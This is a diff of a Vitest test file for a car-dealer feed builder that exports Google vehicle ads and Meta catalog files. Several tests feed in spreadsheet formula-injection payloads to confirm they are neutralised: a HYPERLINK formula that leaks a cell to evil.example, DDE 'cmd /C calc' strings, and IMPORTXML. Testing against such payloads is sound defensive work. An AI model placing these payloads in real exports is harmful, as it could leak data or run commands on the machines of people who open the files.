@@ -2,10 +2,21 @@ import { describe, expect, it } from 'vitest';
 import { googleVehicleAdsFeed, metaVehicleCatalogFeed } from '../../../src/build/inventory-feed-files';
 import { cellOf, neutraliseFormula, textCell } from '../../../src/domain/inventory-feeds/delimited';
 import {
-  GOOGLE_COLUMNS, GOOGLE_NUMBER_COLUMNS, googleBodyStyle, googleEngine, googlePriceType, googleVehicleAd,
+  GOOGLE_COLUMNS,
+  GOOGLE_NUMBER_COLUMNS,
+  googleBodyStyle,
+  googleEngine,
+  googlePriceType,
+  googleVehicleAd,
 } from '../../../src/domain/inventory-feeds/google-vehicle-ads';
 import {
-  META_COLUMNS, META_NUMBER_COLUMNS, metaBodyStyle, metaDrivetrain, metaFuelType, metaTransmission, metaVehicle,
+  META_COLUMNS,
+  META_NUMBER_COLUMNS,
+  metaBodyStyle,
+  metaDrivetrain,
+  metaFuelType,
+  metaTransmission,
+  metaVehicle,
 } from '../../../src/domain/inventory-feeds/meta-vehicle-catalog';
 import { feedPhotos, notAdvertised, photoFileType, plainDescription } from '../../../src/domain/inventory-feeds/vehicle-values';
 import type { CarInput } from '../../../src/domain/schemas';
@@ -17,19 +28,41 @@ const config = makeConfig({
   url: 'https://dealer.example.com/',
   locations: [
     { ...makeLocation({ id: 1, slug: 'brisbane', primary: true }) },
-    { ...makeLocation({ id: 2, slug: 'gold-coast', name: 'Gold Coast', address: { street: '5 Beach Rd', city: 'Gold Coast', state: 'QLD', postcode: '4217', lat: -28, long: 153.4 } }) },
+    {
+      ...makeLocation({
+        id: 2,
+        slug: 'gold-coast',
+        name: 'Gold Coast',
+        address: { street: '5 Beach Rd', city: 'Gold Coast', state: 'QLD', postcode: '4217', lat: -28, long: 153.4 },
+      }),
+    },
   ],
   feeds: { store_codes: { 2: 'GC-02' } },
 } as never);
 
 /** A used car with everything both platforms require. */
-const full = (over: Partial<CarInput> = {}) => makeCar({
-  stocknum: 'S123', vin: '1fadp5au6dl536022', km: 41000, colour: 'Soul Red', interior_colour: 'Black', badge: 'Maxx Sport',
-  price: 32990, price_type: 'Drive Away', simple_body: 'SUV', body: 'Wagon', simple_fuel: 'Petrol', fuel: 'Unleaded Petrol',
-  simple_transmission: 'Automatic', trans: '6 Speed Automatic', drive: 'Front Wheel Drive', location_id: '2',
-  images: [{ url: '/dealer/img/a.jpg' }, { url: 'https://cdn.example.com/b,c.jpg' }], dealercomments: 'One owner.|<p>Full <b>service</b> history &amp; books.</p>',
-  ...over,
-});
+const full = (over: Partial<CarInput> = {}) =>
+  makeCar({
+    stocknum: 'S123',
+    vin: '1fadp5au6dl536022',
+    km: 41000,
+    colour: 'Soul Red',
+    interior_colour: 'Black',
+    badge: 'Maxx Sport',
+    price: 32990,
+    price_type: 'Drive Away',
+    simple_body: 'SUV',
+    body: 'Wagon',
+    simple_fuel: 'Petrol',
+    fuel: 'Unleaded Petrol',
+    simple_transmission: 'Automatic',
+    trans: '6 Speed Automatic',
+    drive: 'Front Wheel Drive',
+    location_id: '2',
+    images: [{ url: '/dealer/img/a.jpg' }, { url: 'https://cdn.example.com/b,c.jpg' }],
+    dealercomments: 'One owner.|<p>Full <b>service</b> history &amp; books.</p>',
+    ...over,
+  });
 
 const row = <R>(out: { row: R } | { missing: string[] }): R => {
   if ('missing' in out) throw new Error(`left out: ${out.missing.join(', ')}`);
@@ -49,8 +82,17 @@ describe('cells of the two formats', () => {
   });
 
   it('OWASP formula starters get a leading single quote, also after leading spaces or quotes; ordinary text does not', () => {
-    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+2', '\r=1+2',
-      '  =1+2', '"=1+2', '\uFF1D1+2'];
+    const payloads = [
+      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      "+cmd|' /C calc'!A0",
+      '-2+3',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '\t=1+2',
+      '\r=1+2',
+      '  =1+2',
+      '"=1+2',
+      '\uFF1D1+2',
+    ];
     for (const p of payloads) expect(neutraliseFormula(p), JSON.stringify(p)).toBe(`'${p}`);
     for (const format of ['tsv', 'csv'] as const) {
       expect(textCell('\t=1+2', format)).toBe("'=1+2");
@@ -69,10 +111,16 @@ describe('cells of the two formats', () => {
 });
 
 describe('photos the platforms take', () => {
-  const svg = (over: Partial<CarInput> = {}) => full({ images: [{ url: '/dealer/img/a.svg' }, { url: 'https://cdn.example.com/b.jpg' }, { url: '/dealer/img/c.svg?2' }], ...over });
+  const svg = (over: Partial<CarInput> = {}) =>
+    full({ images: [{ url: '/dealer/img/a.svg' }, { url: 'https://cdn.example.com/b.jpg' }, { url: '/dealer/img/c.svg?2' }], ...over });
 
   it('file types by extension or data: URL; none when the URL names none', () => {
-    expect(['https://x.example/a.JPG?w=1', '/dealer/b.svg', 'data:image/svg+xml;base64,AA', 'https://img.example/photo/123'].map(photoFileType)).toEqual(['jpg', 'svg', 'svg', null]);
+    expect(['https://x.example/a.JPG?w=1', '/dealer/b.svg', 'data:image/svg+xml;base64,AA', 'https://img.example/photo/123'].map(photoFileType)).toEqual([
+      'jpg',
+      'svg',
+      'svg',
+      null,
+    ]);
   });
 
   it('without a CDN: SVG photos are left out and counted; raster photos and URLs without a type stay', () => {
@@ -85,22 +133,30 @@ describe('photos the platforms take', () => {
 
   it('a car with only SVG photos is left out of both feeds, saying what each platform does with it', () => {
     const only = full({ images: [{ url: '/dealer/img/a.svg' }, { url: '/dealer/img/b.svg' }] });
-    expect(missing(googleVehicleAd(only, config))).toEqual(['image_link (no photo the platform takes: 2 SVG left out; Merchant Center disapproves an offer without an image it can read)']);
-    expect(missing(metaVehicle(only, config))).toEqual(['image[0].url (no photo the platform takes: 2 SVG left out; Meta rejects a vehicle without an image it can read)']);
+    expect(missing(googleVehicleAd(only, config))).toEqual([
+      'image_link (no photo the platform takes: 2 SVG left out; Merchant Center disapproves an offer without an image it can read)',
+    ]);
+    expect(missing(metaVehicle(only, config))).toEqual([
+      'image[0].url (no photo the platform takes: 2 SVG left out; Meta rejects a vehicle without an image it can read)',
+    ]);
   });
 
-  it('with an image CDN: the CDN\'s JPEG of every photo, SVG drawings included where the CDN draws them', () => {
+  it("with an image CDN: the CDN's JPEG of every photo, SVG drawings included where the CDN draws them", () => {
     const wsrv = { ...config, rasterPhoto: (u: string) => rasterPhotoUrl({ provider: 'wsrv', base_url: null }, u) };
     const r = row(metaVehicle(svg(), wsrv));
     expect(r['image[0].url']).toBe('https://wsrv.nl/?url=dealer.example.com%2Fdealer%2Fimg%2Fa.svg&w=1600&output=jpeg&fit=cover');
     expect([r['image[1].url'], r['image[2].url']].every((u) => typeof u === 'string' && u.includes('output=jpeg'))).toBe(true);
     const template = { ...config, rasterPhoto: (u: string) => rasterPhotoUrl({ template: 'https://img.example.com/?url={url}&w={width}&fm={format}' }, u) };
-    expect(row(googleVehicleAd(svg(), template)).image_link).toBe('https://img.example.com/?url=https%3A%2F%2Fdealer.example.com%2Fdealer%2Fimg%2Fa.svg&w=1600&fm=jpeg');
+    expect(row(googleVehicleAd(svg(), template)).image_link).toBe(
+      'https://img.example.com/?url=https%3A%2F%2Fdealer.example.com%2Fdealer%2Fimg%2Fa.svg&w=1600&fm=jpeg',
+    );
   });
 
   it('a CDN that passes SVG through (Cloudflare) or picks the format itself (Vercel) gives no JPEG of a drawing', () => {
     expect(rasterPhotoUrl({ provider: 'cloudflare', base_url: 'https://img.dealer.example' }, 'https://dealer.example.com/a.svg')).toBeNull();
-    expect(rasterPhotoUrl({ provider: 'cloudflare', base_url: 'https://img.dealer.example' }, 'https://dealer.example.com/a.jpg')).toBe('https://img.dealer.example/cdn-cgi/image/width=1600,f=jpeg,fit=cover/https://dealer.example.com/a.jpg');
+    expect(rasterPhotoUrl({ provider: 'cloudflare', base_url: 'https://img.dealer.example' }, 'https://dealer.example.com/a.jpg')).toBe(
+      'https://img.dealer.example/cdn-cgi/image/width=1600,f=jpeg,fit=cover/https://dealer.example.com/a.jpg',
+    );
     expect(rasterPhotoUrl({ provider: 'vercel', base_url: 'https://dealer.example.com' }, 'https://dealer.example.com/a.jpg')).toBeNull();
     expect(rasterPhotoUrl({ template: 'https://img.example.com/{width}/{url}' }, 'https://dealer.example.com/a.svg')).toBeNull();
     expect(rasterPhotoUrl('none', 'https://dealer.example.com/a.jpg')).toBeNull();
@@ -111,13 +167,28 @@ describe('Google vehicle ads row', () => {
   it('maps a car to the specification attributes: absolute URLs, price "12345.00 AUD", mileage with its unit, store code from the location', () => {
     const r = row(googleVehicleAd(full(), config));
     expect(r).toMatchObject({
-      id: 'S123', title: '2021 Toyota Corolla Ascent Sport', description: 'One owner. Full service history & books.',
+      id: 'S123',
+      title: '2021 Toyota Corolla Ascent Sport',
+      description: 'One owner. Full service history & books.',
       link: 'https://dealer.example.com/cars/toyota-corolla-2021-101/',
-      image_link: 'https://dealer.example.com/dealer/img/a.jpg', additional_image_link: 'https://cdn.example.com/b%2Cc.jpg',
-      price: '32990.00 AUD', vehicle_price_type: 'drive_away_price', condition: 'used', brand: 'Toyota', model: 'Corolla', year: 2021,
-      mileage: '41000 km', VIN: '1FADP5AU6DL536022', store_code: 'GC-02', 'vehicle_fulfillment(option:store_code)': 'in_store:GC-02',
+      image_link: 'https://dealer.example.com/dealer/img/a.jpg',
+      additional_image_link: 'https://cdn.example.com/b%2Cc.jpg',
+      price: '32990.00 AUD',
+      vehicle_price_type: 'drive_away_price',
+      condition: 'used',
+      brand: 'Toyota',
+      model: 'Corolla',
+      year: 2021,
+      mileage: '41000 km',
+      VIN: '1FADP5AU6DL536022',
+      store_code: 'GC-02',
+      'vehicle_fulfillment(option:store_code)': 'in_store:GC-02',
       google_product_category: 'Vehicles & Parts > Vehicles > Motor Vehicles > Cars, Trucks & Vans',
-      body_style: 'suv', color: 'Soul Red', trim: 'Maxx Sport', engine: 'gasoline', 'certified_pre-owned': 'no',
+      body_style: 'suv',
+      color: 'Soul Red',
+      trim: 'Maxx Sport',
+      engine: 'gasoline',
+      'certified_pre-owned': 'no',
     });
   });
 
@@ -141,7 +212,9 @@ describe('Google vehicle ads row', () => {
   });
 
   it('Australia: a new car needs a drive-away price, a used car drive-away or excluding government charges, and a known price type', () => {
-    expect(missing(googleVehicleAd(full({ car_type: 'new', price_type: 'Excl. Government Charges' }), config))).toEqual(['vehicle_price_type (a new car in Australia needs a drive-away price)']);
+    expect(missing(googleVehicleAd(full({ car_type: 'new', price_type: 'Excl. Government Charges' }), config))).toEqual([
+      'vehicle_price_type (a new car in Australia needs a drive-away price)',
+    ]);
     expect(row(googleVehicleAd(full({ price_type: 'EGC' }), config)).vehicle_price_type).toBe('excluding_government_charges_price');
     expect(missing(googleVehicleAd(full({ price_type: null }), config))[0]).toMatch(/^vehicle_price_type/);
     // Outside Australia the attribute is not required.
@@ -151,13 +224,37 @@ describe('Google vehicle ads row', () => {
 
   it('maps Australian bodies, fuels and price types to Google enumerations', () => {
     const body = (simple_body: string | null, b: string | null = null) => googleBodyStyle({ simple_body, body: b });
-    expect([body('Hatch'), body('Ute', 'Double Cab Pick Up'), body('Van'), body('Sedan'), body('Coupe'), body(null, 'Cabriolet'), body('People Mover'), body(null, 'Wagon'), body('Cab Chassis'), body('Bus'), body(null)])
-      .toEqual(['hatchback', 'truck', 'full size van', 'sedan', 'coupe', 'convertible', 'minivan', 'station wagon', 'truck', null, null]);
+    expect([
+      body('Hatch'),
+      body('Ute', 'Double Cab Pick Up'),
+      body('Van'),
+      body('Sedan'),
+      body('Coupe'),
+      body(null, 'Cabriolet'),
+      body('People Mover'),
+      body(null, 'Wagon'),
+      body('Cab Chassis'),
+      body('Bus'),
+      body(null),
+    ]).toEqual(['hatchback', 'truck', 'full size van', 'sedan', 'coupe', 'convertible', 'minivan', 'station wagon', 'truck', null, null]);
     const engine = (fuel: string | null) => googleEngine({ simple_fuel: null, fuel });
-    expect([engine('Unleaded Petrol'), engine('Diesel'), engine('Electric'), engine('Hybrid (Petrol/Electric)'), engine('Plug-in Hybrid (Petrol/Electric)'), engine('LPG'), engine('Hydrogen'), engine(null)])
-      .toEqual(['gasoline', 'diesel', 'electric', 'hybrid', 'plug-in_hybrid', 'lpg', 'other', null]);
-    expect([googlePriceType('Drive Away'), googlePriceType('DAP'), googlePriceType('Estimated Drive Away'), googlePriceType('excl_govt_charges'), googlePriceType('Negotiable')])
-      .toEqual(['drive_away_price', 'drive_away_price', 'estimated_drive_away_price', 'excluding_government_charges_price', null]);
+    expect([
+      engine('Unleaded Petrol'),
+      engine('Diesel'),
+      engine('Electric'),
+      engine('Hybrid (Petrol/Electric)'),
+      engine('Plug-in Hybrid (Petrol/Electric)'),
+      engine('LPG'),
+      engine('Hydrogen'),
+      engine(null),
+    ]).toEqual(['gasoline', 'diesel', 'electric', 'hybrid', 'plug-in_hybrid', 'lpg', 'other', null]);
+    expect([
+      googlePriceType('Drive Away'),
+      googlePriceType('DAP'),
+      googlePriceType('Estimated Drive Away'),
+      googlePriceType('excl_govt_charges'),
+      googlePriceType('Negotiable'),
+    ]).toEqual(['drive_away_price', 'drive_away_price', 'estimated_drive_away_price', 'excluding_government_charges_price', null]);
   });
 });
 
@@ -184,13 +281,35 @@ describe('Meta automotive catalog row', () => {
   it('maps a car to Meta field names with the location address, enumerations in upper case', () => {
     const r = row(metaVehicle(full({ offer_price: 30990 }), config));
     expect(r).toMatchObject({
-      vehicle_id: 'S123', url: 'https://dealer.example.com/cars/toyota-corolla-2021-101/', make: 'Toyota', model: 'Corolla', year: 2021,
-      'mileage.value': 41000, 'mileage.unit': 'KM', 'image[0].url': 'https://dealer.example.com/dealer/img/a.jpg',
-      'image[1].url': 'https://cdn.example.com/b,c.jpg', state_of_vehicle: 'USED', price: '32990.00 AUD', sale_price: '30990.00 AUD',
-      vin: '1FADP5AU6DL536022', body_style: 'SUV', transmission: 'AUTOMATIC', fuel_type: 'PETROL', drivetrain: 'FWD',
-      exterior_color: 'Soul Red', interior_color: 'Black', 'address.addr1': '5 Beach Rd', 'address.city': 'Gold Coast',
-      'address.region': 'QLD', 'address.postal_code': '4217', 'address.country': 'AU', latitude: -28, longitude: 153.4,
-      dealer_id: 'GC-02', dealer_name: 'Gold Coast', availability: 'AVAILABLE',
+      vehicle_id: 'S123',
+      url: 'https://dealer.example.com/cars/toyota-corolla-2021-101/',
+      make: 'Toyota',
+      model: 'Corolla',
+      year: 2021,
+      'mileage.value': 41000,
+      'mileage.unit': 'KM',
+      'image[0].url': 'https://dealer.example.com/dealer/img/a.jpg',
+      'image[1].url': 'https://cdn.example.com/b,c.jpg',
+      state_of_vehicle: 'USED',
+      price: '32990.00 AUD',
+      sale_price: '30990.00 AUD',
+      vin: '1FADP5AU6DL536022',
+      body_style: 'SUV',
+      transmission: 'AUTOMATIC',
+      fuel_type: 'PETROL',
+      drivetrain: 'FWD',
+      exterior_color: 'Soul Red',
+      interior_color: 'Black',
+      'address.addr1': '5 Beach Rd',
+      'address.city': 'Gold Coast',
+      'address.region': 'QLD',
+      'address.postal_code': '4217',
+      'address.country': 'AU',
+      latitude: -28,
+      longitude: 153.4,
+      dealer_id: 'GC-02',
+      dealer_name: 'Gold Coast',
+      availability: 'AVAILABLE',
     });
   });
 
@@ -201,17 +320,37 @@ describe('Meta automotive catalog row', () => {
   });
 
   it('names every required field a car lacks, including the address of its location', () => {
-    const noStreet = makeConfig({ ...config, locations: [makeLocation({ id: 1, slug: 'brisbane', address: { street: null, city: 'Brisbane', state: 'QLD', postcode: '4000' } })] } as never);
-    expect(missing(metaVehicle(full({ colour: null, images: [], location_id: '1' }), noStreet))).toEqual(['image[0].url (no photo)', 'exterior_color', 'address.addr1 (location brisbane)']);
+    const noStreet = makeConfig({
+      ...config,
+      locations: [makeLocation({ id: 1, slug: 'brisbane', address: { street: null, city: 'Brisbane', state: 'QLD', postcode: '4000' } })],
+    } as never);
+    expect(missing(metaVehicle(full({ colour: null, images: [], location_id: '1' }), noStreet))).toEqual([
+      'image[0].url (no photo)',
+      'exterior_color',
+      'address.addr1 (location brisbane)',
+    ]);
   });
 
   it('maps bodies, fuels, gearboxes and drive to Meta enumerations; an unknown body is OTHER', () => {
     const body = (simple_body: string | null, b: string | null = null) => metaBodyStyle({ simple_body, body: b });
-    expect([body('Ute'), body('Cab Chassis'), body('Hatch'), body(null, 'Wagon'), body('Van'), body(null, 'Roadster'), body('Caravan')])
-      .toEqual(['PICKUP', 'TRUCK', 'HATCHBACK', 'WAGON', 'VAN', 'ROADSTER', 'OTHER']);
-    expect([metaFuelType({ simple_fuel: 'Hybrid', fuel: null }), metaFuelType({ simple_fuel: null, fuel: 'Diesel' }), metaFuelType({ simple_fuel: null, fuel: null })])
-      .toEqual(['HYBRID', 'DIESEL', null]);
-    expect([metaTransmission({ simple_transmission: null, trans: '6 Speed Manual' }), metaTransmission({ simple_transmission: 'CVT', trans: null })]).toEqual(['MANUAL', 'AUTOMATIC']);
+    expect([body('Ute'), body('Cab Chassis'), body('Hatch'), body(null, 'Wagon'), body('Van'), body(null, 'Roadster'), body('Caravan')]).toEqual([
+      'PICKUP',
+      'TRUCK',
+      'HATCHBACK',
+      'WAGON',
+      'VAN',
+      'ROADSTER',
+      'OTHER',
+    ]);
+    expect([
+      metaFuelType({ simple_fuel: 'Hybrid', fuel: null }),
+      metaFuelType({ simple_fuel: null, fuel: 'Diesel' }),
+      metaFuelType({ simple_fuel: null, fuel: null }),
+    ]).toEqual(['HYBRID', 'DIESEL', null]);
+    expect([metaTransmission({ simple_transmission: null, trans: '6 Speed Manual' }), metaTransmission({ simple_transmission: 'CVT', trans: null })]).toEqual([
+      'MANUAL',
+      'AUTOMATIC',
+    ]);
     expect(['4x4', 'All Wheel Drive', 'Rear Wheel Drive', '4x2', null].map((drive) => metaDrivetrain({ drive }))).toEqual(['4X4', 'AWD', 'RWD', '4X2', null]);
   });
 });
@@ -253,16 +392,48 @@ describe('whole feeds', () => {
 
   it('spreadsheet formulas in every text field are neutralised in both files; numbers stay numbers', () => {
     const car = full({
-      name: '=HYPERLINK("http://evil.example","Click")', make: '+cmd|\' /C calc\'!A0', model: '@SUM(1+1)', badge: '\t=1+2', colour: '-2+3',
-      interior_colour: ' =1', dealercomments: '"=IMPORTXML(A1)"', stocknum: '=S1',
+      name: '=HYPERLINK("http://evil.example","Click")',
+      make: "+cmd|' /C calc'!A0",
+      model: '@SUM(1+1)',
+      badge: '\t=1+2',
+      colour: '-2+3',
+      interior_colour: ' =1',
+      dealercomments: '"=IMPORTXML(A1)"',
+      stocknum: '=S1',
     });
-    const cfg = makeConfig({ ...config, locations: [makeLocation({ id: 2, slug: 'gold-coast', name: '=Gold Coast', address: { street: '@5 Beach Rd', city: 'Gold Coast', state: 'QLD', postcode: '4217', lat: -28, long: -153.4 } })] } as never);
+    const cfg = makeConfig({
+      ...config,
+      locations: [
+        makeLocation({
+          id: 2,
+          slug: 'gold-coast',
+          name: '=Gold Coast',
+          address: { street: '@5 Beach Rd', city: 'Gold Coast', state: 'QLD', postcode: '4217', lat: -28, long: -153.4 },
+        }),
+      ],
+    } as never);
     const google = parseStrictTsv(googleVehicleAdsFeed([car], cfg).text);
     expectSafeFeed(google, GOOGLE_COLUMNS, GOOGLE_NUMBER_COLUMNS);
-    expect(records(google)[0]).toMatchObject({ id: "'=S1", title: `'=HYPERLINK("http://evil.example","Click")`, brand: "'+cmd|' /C calc'!A0", model: "'@SUM(1+1)", trim: "'=1+2", color: "'-2+3", year: '2021' });
+    expect(records(google)[0]).toMatchObject({
+      id: "'=S1",
+      title: `'=HYPERLINK("http://evil.example","Click")`,
+      brand: "'+cmd|' /C calc'!A0",
+      model: "'@SUM(1+1)",
+      trim: "'=1+2",
+      color: "'-2+3",
+      year: '2021',
+    });
     const meta = parseStrictCsv(metaVehicleCatalogFeed([car], cfg).text);
     expectSafeFeed(meta, META_COLUMNS, META_NUMBER_COLUMNS);
-    expect(records(meta)[0]).toMatchObject({ interior_color: "'=1", description: `'"=IMPORTXML(A1)"`, dealer_name: "'=Gold Coast", 'address.addr1': "'@5 Beach Rd", latitude: '-28', longitude: '-153.4', 'mileage.value': '41000' });
+    expect(records(meta)[0]).toMatchObject({
+      interior_color: "'=1",
+      description: `'"=IMPORTXML(A1)"`,
+      dealer_name: "'=Gold Coast",
+      'address.addr1': "'@5 Beach Rd",
+      latitude: '-28',
+      longitude: '-153.4',
+      'mileage.value': '41000',
+    });
   });
 
   it('a car without dealer comments is described by its facts', () => {
